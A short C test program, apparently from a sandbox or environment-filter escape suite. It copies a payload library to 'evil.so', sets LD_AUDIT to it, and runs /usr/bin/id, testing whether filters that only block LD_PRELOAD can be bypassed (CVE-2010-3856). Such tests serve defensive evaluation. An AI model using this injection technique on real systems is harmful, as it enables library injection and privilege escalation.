// The same with LD_AUDIT, which filters of LD_PRELOAD forget (CVE-2010-3856).
#include "escape.h"
int main(void)
{
	copy("payload.so", "evil.so");
	setenv("LD_AUDIT", "./evil.so", 1);
	EXEC42("/usr/bin/id");
}
